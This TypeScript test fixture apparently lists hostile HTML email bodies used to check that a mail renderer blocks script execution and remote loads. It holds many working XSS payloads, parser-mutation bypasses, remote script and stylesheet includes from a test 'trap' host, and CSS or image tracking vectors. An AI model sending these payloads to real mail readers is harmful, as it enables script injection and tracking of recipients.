/** Where a hostile mail tries to go, and what it does where it can run. */
export interface Bait {
  /** Nothing may ever come there. */
  readonly trap: string
  /** Pictures may come from there, once they are asked for. */
  readonly pictures: string
  /** JavaScript without double quotes. */
  readonly run: string
}

export interface HostileMail {
  readonly name: string
  readonly html: (bait: Bait) => string
  /**
   * Whether today's Chromium does what the mail asks for, where nothing is between them. The others are of browsers and
   * parsers past, or may come to work.
   */
  readonly bites: boolean
}

type Row = readonly [name: string, html: (bait: Bait) => string, note?: 'inert' | undefined]

const SCRIPTS: readonly Row[] = [
  ['script', ({ run }) => `<script>${run}</script>`],
  ['script src', ({ trap }) => `<script src="${trap}/a.js"></script>`],
  ['script type=module', ({ trap }) => `<script type="module" src="${trap}/a.js"></script>`],
  ['script nomodule', ({ run }) => `<script nomodule>${run}</script>`, 'inert'],
  [
    'importmap',
    ({ trap }) =>
      `<script type="importmap">{"imports":{"a":"${trap}/a.js"}}</script><script type="module">import 'a'</script>`,
  ],
  ['img onerror', ({ run }) => `<img src="x:" onerror="${run}">`],
  [
    'img onload',
    ({ run }) =>
      `<img src="data:image/gif;base64,R0lGODlhAQABAIAAAAUEBAAAACwAAAAAAQABAAACAkQBADs=" onload="${run}">`,
  ],
  ['body onload', ({ run }) => `<body onload="${run}">x</body>`],
  ['body onpageshow', ({ run }) => `<body onpageshow="${run}">x</body>`],
  [
    'autofocus onfocus',
    ({ run }) => `<a href="#" autofocus onfocus="${run}">x</a><input autofocus onfocus="${run}">`,
  ],
  ['details ontoggle', ({ run }) => `<details open ontoggle="${run}"><summary>x</summary>y</details>`],
  [
    'animation handlers',
    ({ run }) => `<style>@keyframes k{}p{animation:k 1s}</style><p onanimationstart="${run}">x</p>`,
  ],
  [
    'transition handlers',
    ({ run }) =>
      `<style>p{transition:color 1ms;color:red}@starting-style{p{color:blue}}</style><p ontransitionend="${run}">x</p>`,
  ],
  [
    'scroll handlers',
    ({ run }) =>
      `<div style="height:10px;overflow:scroll" onscroll="${run}"><p id=s style="margin-top:99px" autofocus tabindex=0>x</p></div>`,
  ],
  [
    'media handlers',
    ({ run }) =>
      `<video onerror="${run}"><source onerror="${run}" src="data:,"></video><audio src="data:," onerror="${run}"></audio>`,
  ],
  ['marquee handlers', ({ run }) => `<marquee onstart="${run}">x</marquee>`, 'inert'],
  [
    'content-visibility handler',
    ({ run }) => `<p oncontentvisibilityautostatechange="${run}" style="content-visibility:auto">x</p>`,
  ],
  [
    'beforetoggle',
    ({ run }) => `<button popovertarget=x autofocus>x</button><p popover id=x onbeforetoggle="${run}">y</p>`,
    'inert',
  ],
  ['handler without spaces', ({ run }) => `<img/src="x:"/onerror="${run}">`],
  ['handler in upper case', ({ run }) => `<IMG SRC=x: ONERROR="${run}">`],
  ['javascript iframe', ({ run }) => `<iframe src="javascript:${run}"></iframe>`],
  ['srcdoc', ({ run }) => `<iframe srcdoc="<script>${run}</script>"></iframe>`],
  ['data iframe', ({ trap }) => `<iframe src="data:text/html,<script src=${trap}/a.js></script>"></iframe>`],
  ['object data', ({ trap }) => `<object data="data:text/html,<script src=${trap}/a.js></script>"></object>`],
  [
    'template shadow root',
    ({ run }) => `<div><template shadowrootmode="open"><img src="x:" onerror="${run}"></template></div>`,
  ],
  [
    'window.name and opener',
    ({ run }) => `<script>window.name='owned';if(opener)opener.location='about:blank';${run}</script>`,
  ],
  ['top navigation', ({ trap }) => `<script>top.location='${trap}/top.html'</script>`],
]

const FOREIGN: readonly Row[] = [
  ['svg script', ({ run }) => `<svg><script>${run}</script></svg>`],
  ['svg script href', ({ trap }) => `<svg><script href="${trap}/a.js"></script></svg>`],
  ['svg onload', ({ run }) => `<svg onload="${run}"></svg>`],
  ['svg animate', ({ run }) => `<svg><animate onbegin="${run}" attributeName="x" dur="1s"></animate></svg>`],
  [
    'svg set of a link',
    ({ run }) =>
      `<svg><a><set attributeName="href" to="javascript:${run}"></set><text y="20">x</text></a></svg>`,
    'inert',
  ],
  [
    'svg foreignObject',
    ({ run }) => `<svg><foreignObject><img src="x:" onerror="${run}"></foreignObject></svg>`,
  ],
  ['svg use', ({ trap }) => `<svg><use href="${trap}/a.svg#a"></use></svg>`, 'inert'],
  ['svg image', ({ trap }) => `<svg><image href="${trap}/a.gif"></image></svg>`],
  [
    'svg feImage',
    ({ trap }) =>
      `<svg width="9" height="9"><filter id="f"><feImage href="${trap}/a.gif"></feImage></filter><rect width="9" height="9" filter="url(#f)"></rect></svg>`,
  ],
  ['svg style', ({ trap }) => `<svg><style>@import "${trap}/a.css";</style></svg>`],
  [
    'svg data picture',
    ({ trap }) =>
      `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='${trap}/a.gif'/><script href='${trap}/a.js'/></svg>">`,
    'inert',
  ],
  [
    'math link',
    ({ run }) =>
      `<math href="javascript:${run}">x</math><math><maction actiontype="statusline" xlink:href="javascript:${run}">x</maction></math>`,
    'inert',
  ],
  ['xml stylesheet', ({ trap }) => `<?xml-stylesheet href="${trap}/a.css"?>x`, 'inert'],
]

const STYLE: readonly Row[] = [
  ['css import', ({ trap }) => `<style>@import "${trap}/a.css";@import url(${trap}/b.css);</style>`],
  [
    'css import, escaped',
    ({ trap }) => `<style>@\\69mport "${trap}/a.css";@imp\\6frt url('${trap}/b.css')</style>`,
  ],
  [
    'css import in a layer',
    ({ trap }) => `<style>@import url("${trap}/a.css") layer(a) supports(display:block) screen;</style>`,
  ],
  [
    'css font',
    ({ trap }) => `<style>@font-face{font-family:f;src:url(${trap}/f.woff2)}p{font-family:f}</style><p>x</p>`,
  ],
  [
    'css font of one letter',
    ({ trap }) =>
      `<style>@font-face{font-family:f;src:url(${trap}/f.woff2);unicode-range:U+61}p{font-family:f}</style><p>abc</p>`,
  ],
  [
    'style element closed in a string',
    ({ run }) => `<style>p{content:"</style><img src=x: onerror=${JSON.stringify(run)}>"}</style>`,
  ],
  [
    'style element closed in an attribute',
    ({ run }) =>
      `<p style="content:'</style><img src=x: onerror=1>'">x</p><style media="</style><script>${run}</script>">`,
    'inert',
  ],
  ['link stylesheet', ({ trap }) => `<link rel="stylesheet" href="${trap}/a.css">`],
  [
    'style of a data link',
    ({ trap }) => `<link rel="stylesheet" href="data:text/css,@import '${trap}/a.css';">`,
  ],
  [
    'css expression and behavior',
    ({ run, trap }) =>
      `<p style="width:expression(${run});behavior:url(${trap}/a.htc);-moz-binding:url(${trap}/a.xml)">x</p>`,
    'inert',
  ],
  [
    'css paint worklet',
    ({ trap }) =>
      `<style>p{background:paint(x)}</style><script>CSS.paintWorklet.addModule('${trap}/a.js')</script><p>x</p>`,
  ],
  ['css namespace', ({ trap }) => `<style>@namespace url(${trap}/a);p{color:red}</style>x`, 'inert'],
]

const WITH_PICTURES: readonly Row[] = [
  ['css background', ({ pictures }) => `<style>body{background:url(${pictures}/a.css)}</style>x`],
  [
    'css attribute selectors',
    ({ pictures }) =>
      `<style>a[href^="https://bank"]{background:url(${pictures}/b)}</style><a href="https://bank.test">x</a>`,
  ],
  ['css cursor', ({ pictures }) => `<style>body{cursor:url(${pictures}/cur),auto;height:99vh}</style>x`],
  ['css image-set', ({ pictures }) => `<p style="background:image-set('${pictures}/set' 1x)">x</p>`],
  [
    'css -webkit-image-set',
    ({ pictures }) => `<p style="background:-webkit-image-set(url(${pictures}/wset) 1x)">x</p>`,
  ],
  ['css cross-fade and list', ({ pictures }) => `<ul style="list-style:url(${pictures}/list)"><li>x</ul>`],
  [
    'css content and border',
    ({ pictures }) =>
      `<style>p::before{content:url(${pictures}/content)}p{border:1px solid;border-image:url(${pictures}/border) 1}</style><p>x</p>`,
  ],
  ['css escaped url', ({ pictures }) => `<p style="background:u\\72l(${pictures}/escaped)">x</p>`],
  [
    'css comment in url',
    ({ pictures }) =>
      `<p style="background:/**/url(/**/${pictures}/c)">x</p><p style="background:url( '${pictures}/d' )">x</p>`,
  ],
  [
    'css url in a custom property',
    ({ pictures }) => `<p style="--a:'${pictures}/var';background:image-set(var(--a) 1x)">x</p>`,
  ],
  ['img', ({ pictures }) => `<img src="${pictures}/img" srcset="${pictures}/srcset 2x" loading="eager">`],
  [
    'img lowsrc and dynsrc',
    ({ pictures }) => `<img lowsrc="${pictures}/low" dynsrc="${pictures}/dyn">`,
    'inert',
  ],
  ['image', ({ pictures }) => `<image src="${pictures}/image">`],
  ['body background', ({ pictures }) => `<body background="${pictures}/body">x</body>`],
  [
    'td background',
    ({ pictures }) => `<table background="${pictures}/table"><tr><td background="${pictures}/td">x</table>`,
  ],
]

const LOADING: readonly Row[] = [
  ['meta refresh', ({ trap }) => `<meta http-equiv="refresh" content="0;url=${trap}/refresh.html">`],
  [
    'meta refresh to data',
    ({ trap }) =>
      `<meta http-equiv="refresh" content="0;url=data:text/html,<script src=${trap}/a.js></script>">`,
  ],
  [
    'base',
    ({ trap }) =>
      `<base href="${trap}/base/" target="_top"><img src="a.gif"><link rel="stylesheet" href="a.css">`,
  ],
  ['iframe', ({ trap }) => `<iframe src="${trap}/a.html"></iframe>`],
  ['frameset', ({ trap }) => `<frameset><frame src="${trap}/a.html"></frameset>`],
  [
    'object, embed and applet',
    ({ trap }) =>
      `<object data="${trap}/a.html"></object><embed src="${trap}/b.html"><applet code="${trap}/c.class"></applet>`,
  ],
  [
    'fencedframe and portal',
    ({ trap }) => `<fencedframe src="${trap}/a.html"></fencedframe><portal src="${trap}/b.html"></portal>`,
    'inert',
  ],
  [
    'video and audio',
    ({ trap }) =>
      `<video src="${trap}/v.mp4" poster="${trap}/p.gif" autoplay></video><audio src="${trap}/a.mp3" autoplay></audio>`,
  ],
  [
    'source and track',
    ({ trap }) => `<video autoplay><source src="${trap}/v.mp4"><track default src="${trap}/t.vtt"></video>`,
  ],
  ['picture source', ({ trap }) => `<picture><source srcset="${trap}/s.gif"><img alt="x"></picture>`],
  ['input image', ({ trap }) => `<input type="image" src="${trap}/i.gif">`],
  ...['preconnect', 'prefetch', 'preload', 'modulepreload'].map(rel => linkOf(rel)),
  ...['prerender', 'icon'].map(rel => linkOf(rel, 'inert')),
  ['link dns-prefetch', ({ trap }) => `<link rel="dns-prefetch" href="${trap}">`, 'inert'],
  ['link manifest', ({ trap }) => `<link rel="manifest" href="${trap}/a.webmanifest">`, 'inert'],
  [
    'speculation rules',
    ({ trap }) =>
      `<script type="speculationrules">{"prefetch":[{"source":"list","urls":["${trap}/s.html"],"eagerness":"immediate"}]}</script>`,
    'inert',
  ],
  [
    'autosubmitted form',
    ({ trap, run }) =>
      `<form id="f" action="${trap}/form.html"><input name="a"><script>f.submit()</script><img src="x:" onerror="f.submit();${run}"></form>`,
  ],
  [
    'form to a frame',
    ({ trap }) =>
      `<form action="${trap}/form.html" target="_top"><button autofocus formaction="${trap}/b.html">x</button><input type="submit" autofocus></form>`,
    'inert',
  ],
  [
    'report endpoints',
    ({ trap }) =>
      `<meta http-equiv="content-security-policy" content="default-src 'none'; report-uri ${trap}/report">x<img src="x:">`,
    'inert',
  ],
  [
    'attribution and ping',
    ({ trap }) => `<img attributionsrc="${trap}/attr" src="data:,"><a ping="${trap}/ping" href="#">x</a>`,
    'inert',
  ],
  ['html manifest', ({ trap }) => `<html manifest="${trap}/m.appcache"><body>x</body></html>`, 'inert'],
]

const MUTATIONS: readonly Row[] = [
  [
    'noscript and title',
    ({ run }) =>
      `<noscript><p title="</noscript><img src=x: onerror='${run.replaceAll("'", '`')}'>"></noscript>`,
  ],
  [
    'comment in svg style',
    ({ run }) => `<svg></p><style><!--</style><img src="x:" onerror="${run}">--></style></svg>`,
  ],
  [
    'math, table, mglyph',
    ({ run }) =>
      `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x: onerror=1&gt;"><img src="x:" onerror="${run}">`,
  ],
  [
    'form in form',
    ({ run }) => `<form><math><mtext></form><form><mglyph><style></math><img src="x:" onerror="${run}">`,
    'inert',
  ],
  [
    'annotation-xml',
    ({ run }) =>
      `<math><annotation-xml encoding="text/html"><style><img src="x:" onerror="1"></style><img src="x:" onerror="${run}"></annotation-xml></math>`,
  ],
  [
    'select and xmp',
    ({ run }) =>
      `<select><xmp><script>${run}</script></xmp></select><xmp><p title="</xmp><img src=x: onerror='${run.replaceAll("'", '`')}'>"></xmp>`,
  ],
  [
    'textarea and title',
    ({ run }) =>
      `<title><p title="</title><img src=x: onerror='${run.replaceAll("'", '`')}'>"></title><textarea></textarea><img src="x:" onerror="${run}">`,
  ],
  ['plaintext', ({ run }) => `<img src="x:" onerror="${run}"><plaintext><b>`],
  ['unclosed comment', ({ run }) => `<!--><img src="x:" onerror="${run}">--!><script>${run}</script>`],
  [
    'conditional comment',
    ({ run }) =>
      `<![if !mso]><img src="x:" onerror="${run}"><![endif]><!--[if mso]><script>1</script><![endif]-->`,
  ],
  [
    'CDATA',
    ({ run }) =>
      `<svg><![CDATA[><img src="x:" onerror="1">]]></svg><![CDATA[><img src="x:" onerror="${run}">]]>`,
  ],
  [
    'null bytes',
    ({ run }) =>
      `<im\0g src="x:" onerror="1"><img src="x:" one\0rror="1"><\0script>1</script><img \0 src="x:" onerror="${run}">`,
  ],
  [
    'backtick and broken quotes',
    ({ run }) => `<img src="x:" alt="\`" title=\`><p title="\`onerror=1"><img """ src="x:" onerror="${run}">`,
  ],
  ['UTF-7', () => '<meta charset="utf-7">+ADw-script+AD4-top.__owned=1+ADw-/script+AD4-', 'inert'],
  [
    'entities in a handler',
    ({ run }) => `<img src="x:" onerror="${[...run].map(one => `&#${one.charCodeAt(0)};`).join('')}">`,
  ],
  [
    'nested tables',
    ({ run }) => `<table><td><table><svg><td><style></table><img src="x:" onerror="${run}"></style></svg>`,
  ],
  [
    'deep nesting',
    ({ run }) =>
      `${'<div>'.repeat(600)}<svg><style><a title="</style><img src=x: onerror='${run.replaceAll("'", '`')}'>">`,
    'inert',
  ],
]

function linkOf(rel: string, note?: 'inert'): Row {
  const html = ({ trap }: Bait): string =>
    `<link rel="${rel}" href="${trap}/${rel}.js" as="script" crossorigin>`
  return [`link ${rel}`, html, note]
}

function mailOf([name, html, note]: Row): HostileMail {
  return { name, html, bites: note !== 'inert' }
}

/** Mails that may not even load a picture, whatever is asked for. */
export const TRAPS = [...SCRIPTS, ...FOREIGN, ...STYLE, ...LOADING, ...MUTATIONS].map(mailOf)

/** Mails with pictures of other hosts, in ways that mails have them. */
export const PICTURES = WITH_PICTURES.map(mailOf)
